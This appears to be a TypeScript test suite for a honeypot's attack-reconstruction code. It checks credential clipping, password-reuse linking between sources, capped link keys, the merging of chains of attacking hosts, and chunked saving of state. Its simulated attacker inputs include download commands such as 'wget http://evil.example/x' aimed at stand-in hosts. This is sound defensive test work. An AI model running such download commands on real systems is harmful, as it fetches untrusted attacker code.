// What one attacker can make the reconstruction state hold: long credentials (clipped for linking,
// still told apart), link keys (capped, least recently recorded first out), ids of absorbed chains
// (capped, appended without a spread), the state saved in bounded pieces; and chains stay a partition
// of their members whatever joins them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { ApiaryEvent } from '../../../src/events/catalogue.js';
import {
  MAX_CREDENTIAL_CHARS,
  MAX_KEYS,
  MAX_MERGED,
  emptyState,
  findRoot,
  foldAttackEvents,
  restoreState,
  serialiseState,
  type AttackState,
} from '../../../src/analysis/attacks/fold.js';
import { makeEvent } from '../../helpers/events.js';

const T0 = Date.parse('2026-06-01T00:00:00Z');

function login(i: number, src: string, user: string, password: string, success: boolean): ApiaryEvent {
  return makeEvent({ type: 'auth.attempt', time: new Date(T0 + i * 1000).toISOString(), src, session: `${src}-${i}`, payload: { method: 'password', username: user, password, success } });
}

/** Events like PROTO at increasing times (built directly: tens of thousands are folded). */
function commands(proto: ApiaryEvent, inputs: Iterable<[src: string, input: string]>, t0: number, idPrefix = 'c'): ApiaryEvent[] {
  const out: ApiaryEvent[] = [];
  let i = 0;
  for (const [src, input] of inputs) {
    out.push({ ...proto, id: `${idPrefix}${String(i).padStart(9, '0')}`, time: new Date(t0 + i).toISOString(), src_ip: src, session: `s-${src}`, payload: { input } } as ApiaryEvent);
    i++;
  }
  return out;
}

function foldInChunks(st: AttackState, events: readonly ApiaryEvent[], chunk = 5000): void {
  for (let i = 0; i < events.length; i += chunk) foldAttackEvents(st, events.slice(i, i + chunk), new Map());
}

/** The chains partition the nodes: each node is a member of the one chain its root names, no two chains share a list. */
function assertConsistent(st: AttackState): void {
  const seen = new Set<string>();
  const lists = new Set<string[]>();
  for (const [root, chain] of st.chains) {
    assert.equal(findRoot(st, root), root, `chain ${root} is not a root`);
    assert.ok(!lists.has(chain.members), `chain ${root} shares its member list`);
    lists.add(chain.members);
    for (const m of chain.members) {
      assert.ok(!seen.has(m), `${m} is a member of two chains`);
      seen.add(m);
      assert.equal(findRoot(st, m), root, `${m} is listed under ${root} but its root is ${findRoot(st, m)}`);
    }
    assert.ok(chain.merged.length <= MAX_MERGED);
  }
  assert.equal(seen.size, st.parent.size, 'every node is a member of one chain');
}

test('long credentials: kept clipped per source (bounded state), told apart when they differ past the clip', () => {
  const st = emptyState();
  const src = '198.51.100.10';
  // 24 failed logins with 1,024- and 4,096-character usernames and passwords, each one different.
  const events = Array.from({ length: 24 }, (_, i) => login(i, src, `${i % 10}`.repeat(i % 2 ? 1024 : 4096), `${String.fromCharCode(97 + i)}`.repeat(i % 2 ? 4096 : 1024), false));
  foldAttackEvents(st, events, new Map());
  const s = st.sources.get(src)!;
  for (const c of s.pwList) assert.ok(c.length <= 2 * MAX_CREDENTIAL_CHARS + 1, `${c.length}`);
  for (const [pw, users] of Object.entries(s.spray)) {
    assert.ok(pw.length <= MAX_CREDENTIAL_CHARS + 2, `${pw.length}`);
    for (const u of users) assert.ok(u.length <= MAX_CREDENTIAL_CHARS);
  }
  // Before the clip this one source's JSON was about 160,000 characters.
  assert.ok(JSON.stringify(s).length < 20_000, `${JSON.stringify(s).length}`);

  fc.assert(
    fc.property(fc.integer({ min: 64, max: 999 }), fc.boolean(), fc.boolean(), (prefix, same, longUser) => {
      // A handoff links two sources iff they used the very same (long) password, however long the shared prefix.
      const st2 = emptyState();
      const user = longUser ? 'u'.repeat(prefix) : 'root';
      const base = 'Zq9!'.repeat(prefix);
      const found = `${base}A`;
      const used = same ? found : `${base}B`;
      foldAttackEvents(st2, [login(0, '203.0.113.1', user, 'a1', false), login(1, '203.0.113.1', user, 'b2', false), login(2, '203.0.113.1', user, 'c3', false), login(3, '203.0.113.1', user, found, true), login(9, '192.0.2.9', user, used, true)], new Map());
      const linked = [...st2.links.values()].some((l) => l.type === 'credential_handoff');
      assert.equal(linked, same);
    }),
    { numRuns: 40 },
  );
});

test('the saved state comes in pieces of bounded size that restore the same state; a piece of another save is refused', () => {
  const st = emptyState();
  const events: ApiaryEvent[] = [];
  for (let n = 0; n < 300; n++) {
    const src = `198.51.${n >> 8}.${n & 255}`;
    ['x1', 'x2', 'x3', 'Found#Pw77'].forEach((pw, i) => events.push(login(n * 10 + i, src, 'root', pw, pw === 'Found#Pw77' && n % 3 === 0)));
  }
  foldAttackEvents(st, events, new Map());
  const pieces = serialiseState(st, 20_000, 'g1');
  assert.ok(pieces.length > 5, `${pieces.length} pieces`);
  const entries = [st.sources.values(), st.sessions, st.tokens.values(), st.keys, st.links, st.parent, st.chains].flatMap((m) => [...m]);
  const largestEntry = Math.max(...entries.map((e) => JSON.stringify(e).length));
  for (const p of pieces) assert.ok(p.length <= 20_000 + largestEntry + 100, `${p.length}`);
  const back = restoreState(pieces, 'g1')!;
  assert.deepEqual(back, st);
  assert.equal(restoreState(pieces, 'g2'), undefined, 'pieces of another save');
  assert.equal(restoreState([...pieces.slice(0, 2), serialiseState(st, 20_000, 'g2')[2]!], 'g1'), undefined, 'pieces of two saves mixed');
  // A state saved whole by the version before pieces still loads.
  const v1 = JSON.stringify({ v: 1, sources: [...st.sources.values()], sessions: [...st.sessions], tokens: [...st.tokens.values()], keys: [...st.keys], links: [...st.links], parent: [...st.parent], chains: [...st.chains] });
  assert.deepEqual(restoreState(v1), st);
});

test('link keys are capped: a session fetching 8 new hosts per command evicts the least recently recorded keys', () => {
  const st = emptyState();
  const proto = makeEvent({ type: 'command.input', time: new Date(T0).toISOString(), src: '198.51.100.20', payload: { input: 'x' } });
  const flood = '198.51.100.20';
  const commandsNeeded = Math.ceil(MAX_KEYS / 8) + 1000;
  // Another source fetches from keep.example now and then: its key stays recent, so it outlives the flood.
  function* inputs(): Generator<[string, string]> {
    yield ['203.0.113.5', 'wget http://keep.example/a'];
    for (let i = 0; i < commandsNeeded; i++) {
      yield [flood, `wget ${Array.from({ length: 8 }, (_, j) => `http://h${i}-${j}.example/x`).join(' ')}`];
      if (i % 2000 === 0) yield ['203.0.113.5', 'wget http://keep.example/a'];
    }
  }
  foldInChunks(st, commands(proto, inputs(), T0));
  assert.ok(st.keys.size <= MAX_KEYS, `${st.keys.size} keys`);
  assert.equal(st.keys.has('host|h0-0.example'), false, 'the oldest key went');
  assert.ok(st.keys.has(`host|h${commandsNeeded - 1}-7.example`), 'the newest key stays');
  // keep.example's key was recorded within the last MAX_KEYS keys: a new source fetching from it still links.
  foldAttackEvents(st, commands(proto, [['192.0.2.44', 'wget http://keep.example/a']], T0 + 10_000_000, 'd'), new Map());
  assert.equal(findRoot(st, '192.0.2.44'), findRoot(st, '203.0.113.5'));
  assertConsistent(st);
});

test('130,000 sources join one chain, then a late source with an older event absorbs it: no throw, merged capped, chains consistent', () => {
  const st = emptyState();
  const proto = makeEvent({ type: 'command.input', time: new Date(T0).toISOString(), src: '198.51.100.30', payload: { input: 'x' } });
  const N = 130_000;
  function* inputs(): Generator<[string, string]> {
    for (let i = 0; i < N; i++) yield [`10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`, 'wget http://evil.example/x'];
  }
  // One commit window of the runner: merged is only cleared when the chain is saved.
  foldInChunks(st, commands(proto, inputs(), T0 + 3_600_000));
  const big = findRoot(st, '10.0.0.0');
  assert.equal(st.chains.get(big)!.members.length, N);
  assert.ok(st.chains.get(big)!.merged.length <= MAX_MERGED);
  // Stored late, with a time before all of them: its chain is the older one and keeps its id.
  const late = commands(proto, [['192.0.2.99', 'wget http://evil.example/x']], T0, 'a');
  foldAttackEvents(st, late, new Map());
  const root = findRoot(st, '10.0.0.0');
  assert.equal(root, findRoot(st, '192.0.2.99'));
  const chain = st.chains.get(root)!;
  assert.equal(chain.members.length, N + 1);
  assert.ok(chain.merged.length <= MAX_MERGED, `${chain.merged.length}`);
  assert.equal(st.sources.get('192.0.2.99')!.events, 1, 'the late event is counted once');
  assertConsistent(st);
});

test('property: however links join sources, in any order and chunking, the chains partition their members', () => {
  const hosts = ['a.example', 'b.example', 'c.example', 'd.example'];
  const step = fc.record({ src: fc.integer({ min: 0, max: 11 }), host: fc.integer({ min: 0, max: 3 }), t: fc.integer({ min: 0, max: 1_000_000 }) });
  fc.assert(
    fc.property(fc.array(step, { minLength: 1, maxLength: 40 }), fc.integer({ min: 1, max: 10 }), (steps, chunk) => {
      const st = emptyState();
      const proto = makeEvent({ type: 'command.input', time: new Date(T0).toISOString(), src: '198.51.100.1', payload: { input: 'x' } });
      const events = steps.map((s, i) => ({ ...proto, id: `p${String(i).padStart(4, '0')}`, time: new Date(T0 + s.t).toISOString(), src_ip: `198.51.100.${s.src}`, session: `q${s.src}`, payload: { input: `wget http://${hosts[s.host]}/x` } }) as ApiaryEvent);
      foldInChunks(st, events, chunk);
      assertConsistent(st);
      const back = restoreState(serialiseState(st, 500))!;
      assertConsistent(back);
    }),
    { numRuns: 200 },
  );
});
